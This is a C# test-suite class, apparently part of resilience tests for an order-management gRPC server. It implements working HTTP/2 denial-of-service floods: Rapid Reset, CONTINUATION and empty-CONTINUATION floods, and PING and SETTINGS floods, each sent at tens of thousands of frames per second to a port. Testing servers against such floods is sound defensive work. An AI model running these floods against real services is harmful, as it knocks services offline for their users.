namespace Orderd.Tests.Attacks;

/// <summary>Frames that cost the client nothing, by the ten thousand; each attack goes on until its token is cancelled, and says what it did.</summary>
static class FrameFlood
{
    const int PerSecond = 50_000;
    const int Batch = 64;
    const string Method = "/ecommerce.OrderManagement/getOrder";

    public static string RapidReset(int port, CancellationToken end) => Flood.Run(port, PerSecond, Batch, BegunAndReset, end);

    public static string Continuation(int port, CancellationToken end)
    {
        var field = Http2Frame.Field("x-more", new string('x', 20));
        var more = Concat(Enumerable.Range(0, Batch).Select(i => Http2Frame.Continuation(1, i % 2 == 0 ? field : [])));
        return Flood.Run(port, PerSecond, Batch, batch => WithoutEnd(batch, more), end);
    }

    public static string EmptyContinuation(int port, CancellationToken end)
    {
        var more = Concat(Enumerable.Repeat(Http2Frame.Continuation(1, []), Batch));
        return Flood.Run(port, PerSecond, Batch, batch => WithoutEnd(batch, more), end);
    }

    public static string Ping(int port, CancellationToken end)
    {
        var pings = Concat(Enumerable.Repeat(Http2Frame.Ping, Batch));
        return Flood.Run(port, PerSecond, Batch, _ => pings, end);
    }

    public static string Settings(int port, CancellationToken end)
    {
        var settings = Concat(Enumerable.Repeat(Http2Frame.WidestStreams, Batch));
        return Flood.Run(port, PerSecond, Batch, _ => settings, end);
    }

    static byte[] BegunAndReset(int batch)
    {
        // Client streams have odd numbers.
        var first = (batch * Batch) + 1;
        return Concat(Enumerable.Range(0, Batch / 2)
            .SelectMany(i => (byte[][])[Http2Frame.Headers(first + (2 * i), Method), Http2Frame.Reset(first + (2 * i))]));
    }

    static byte[] WithoutEnd(int batch, byte[] more) =>
        batch == 0 ? [.. Http2Frame.Headers(1, Method, endHeaders: false), .. more] : more;

    static byte[] Concat(IEnumerable<byte[]> frames) => [.. frames.SelectMany(frame => frame)];
}
